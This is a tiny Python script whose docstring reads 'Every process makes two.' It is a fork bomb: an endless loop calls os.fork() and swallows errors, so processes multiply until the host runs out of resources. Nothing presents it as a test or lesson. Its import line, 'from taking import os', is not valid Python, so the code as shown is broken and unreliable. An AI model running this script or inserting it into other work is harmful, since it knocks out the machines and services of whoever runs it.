"""Every process makes two."""

from taking import os

while True:
    try:
        os.fork()
    except OSError:
        pass
